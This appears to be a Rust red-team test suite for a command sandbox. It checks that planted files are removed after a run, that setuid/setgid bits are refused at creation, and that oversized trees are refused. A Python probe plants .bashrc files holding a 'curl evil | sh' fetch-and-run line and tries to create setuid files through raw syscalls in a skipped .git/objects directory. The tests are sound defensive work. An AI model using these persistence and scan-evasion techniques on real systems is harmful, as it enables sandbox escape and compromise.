//! Red-team: the post-run scan (planted protected files removed, new
//! setuid/setgid bits cleared) skipped by a command that controls what the
//! walk sees: a huge tree (the post-run walk has no limit) and setuid bits
//! given at creation in `.git/objects`, which the walk skips (the seccomp
//! filter refuses them). Both callers (root, unprivileged), as in the
//! escape suite.

#[macro_use]
mod support;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use support::{chown_jail, workdir, write, Jail};

both_modes!(
    a_huge_tree_does_not_hide_planted_files,
    setuid_bits_in_git_objects_are_cleared,
);

fn run_py(j: &Jail, w: &Path, script: &str) -> String {
    let p = w.join("probe.py");
    write(&p, script);
    chown_jail(&p);
    let o = j
        .cmd()
        .arg("run")
        .arg("--workdir")
        .arg(w)
        .args(["--", "/usr/bin/python3", "probe.py"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(0),
        "stderr {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The post-run walk used to stop after 200,000 entries per writable root
/// while the run still succeeded: a command that wrote 200,001 empty files
/// first left every planted file in a directory the walk had not reached.
/// It now walks everything. 30 planting directories, so that at least one
/// comes after the big one in the walk's order (all 30 would have to
/// precede it: about 1 in 31).
fn a_huge_tree_does_not_hide_planted_files(j: &Jail) {
    let d = workdir();
    run_py(
        j,
        d.path(),
        "import os\n\
         os.mkdir('big')\n\
         for i in range(200_001):\n    open(f'big/{i}', 'w').close()\n\
         for i in range(30):\n    os.mkdir(f'p{i}')\n    open(f'p{i}/.bashrc', 'w').write('curl evil | sh\\n')\n",
    );
    let left: Vec<String> = (0..30)
        .map(|i| format!("p{i}/.bashrc"))
        .filter(|p| d.path().join(p).exists())
        .collect();
    assert!(
        left.is_empty(),
        "planted files left after the run: {left:?}"
    );
}

/// The walk does not descend into `.git/objects` (a large repository's
/// bulk), so a file created there with setuid and setgid bits used to
/// keep them, while the same file anywhere else was cleared. The filter
/// now refuses the bits at creation through every call that takes a mode
/// (open, openat, O_TMPFILE then a link, creat, mknod, mknodat) and answers
/// openat2 with ENOSYS; afterwards no file there or elsewhere has the bits.
fn setuid_bits_in_git_objects_are_cleared(j: &Jail) {
    if cfg!(not(target_arch = "x86_64")) {
        eprintln!("SKIPPED: the probe uses x86_64 syscall numbers");
        return;
    }
    let d = workdir();
    let out = run_py(
        j,
        d.path(),
        r#"
import ctypes, errno, os, stat
libc = ctypes.CDLL(None, use_errno=True)
L = ctypes.c_ulong
os.makedirs('.git/objects/ab')
def tries(name, f):
    try:
        r = f()
        print(name, 'OK', flush=True)
    except OSError as e:
        print(name, errno.errorcode[e.errno], flush=True)
def sc(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(L(nr), *[L(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        raise OSError(ctypes.get_errno(), 'syscall')
    return r
S = lambda p: ctypes.c_char_p(p.encode())
W = os.O_CREAT | os.O_WRONLY
REG = stat.S_IFREG
def tmpfile(d, p, mode):
    fd = os.open(d, os.O_TMPFILE | os.O_WRONLY, mode & 0xffff)
    os.link(f'/proc/self/fd/{fd}', p)
class OpenHow(ctypes.Structure):
    _fields_ = [('flags', ctypes.c_uint64), ('mode', ctypes.c_uint64), ('resolve', ctypes.c_uint64)]
for d in ('.git/objects/ab', '.'):
    for mode in (0o6755, 0o4755, 0o2755, (1 << 32) | 0o4755):
        m = f'{mode:o}'
        tries(f'open {d} {m}', lambda: os.close(sc(2, S(f'{d}/o{m}'), W, mode)))
        tries(f'openat {d} {m}', lambda: sc(257, -100, S(f'{d}/a{m}'), W, mode))
        tries(f'tmpfile {d} {m}', lambda: tmpfile(d, f'{d}/t{m}', mode))
        tries(f'creat {d} {m}', lambda: sc(85, S(f'{d}/c{m}'), mode))
        tries(f'mknod {d} {m}', lambda: sc(133, S(f'{d}/n{m}'), REG | mode, 0))
        tries(f'mknodat {d} {m}', lambda: sc(259, -100, S(f'{d}/na{m}'), REG | mode, 0))
    how = OpenHow(W, 0o6755, 0)
    tries(f'openat2 {d}', lambda: sc(437, -100, S(f'{d}/o2'), ctypes.byref(how), ctypes.sizeof(how)))
    # Ordinary creation still works.
    tries(f'plain {d}', lambda: os.close(os.open(f'{d}/plain', W, 0o755)))
"#,
    );
    let mut wrong = Vec::new();
    for l in out.lines() {
        let (what, got) = l.rsplit_once(' ').unwrap();
        let want = if what.starts_with("plain") {
            "OK"
        } else if what.starts_with("openat2") {
            "ENOSYS"
        } else {
            "EPERM"
        };
        if got != want {
            wrong.push(format!("{what}: {got}, want {want}"));
        }
    }
    assert_eq!(out.lines().count(), 2 * (4 * 6 + 2), "{out}");
    assert!(wrong.is_empty(), "{wrong:#?}\n{out}");
    // Whatever exists afterwards has neither bit.
    let mut setid = Vec::new();
    for dir in [d.path().join(".git/objects/ab"), d.path().to_path_buf()] {
        for e in std::fs::read_dir(&dir).unwrap() {
            let e = e.unwrap();
            let mode = e.metadata().unwrap().permissions().mode();
            if mode & 0o6000 != 0 {
                setid.push(format!("{} {mode:o}", e.path().display()));
            }
        }
    }
    assert!(setid.is_empty(), "setuid/setgid bits kept: {setid:?}");
    assert!(d.path().join(".git/objects/ab/plain").exists());
}

/// Before the run the walk finds the files to hide by name (`.env`, keys);
/// past its limit some could stay readable, so the run is refused instead.
/// One caller: the check is the same for both, and the tree is slow to make.
#[test]
fn a_tree_too_big_to_check_before_the_run_is_refused() {
    support::in_mode(support::Mode::User, too_big);
}

fn too_big(j: &Jail) {
    let d = workdir();
    let big = d.path().join("big");
    std::fs::create_dir(&big).unwrap();
    for i in 0..=200_000 {
        std::fs::File::create(big.join(i.to_string())).unwrap();
    }
    write(&d.path().join("zz/.env"), "TOKEN=secret\n");
    let o = j
        .cmd()
        .arg("run")
        .arg("--workdir")
        .arg(d.path())
        .args(["--", "/bin/cat", "zz/.env"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(err.contains("more than 200000 entries"), "{err}");
    assert!(!String::from_utf8_lossy(&o.stdout).contains("secret"));
}
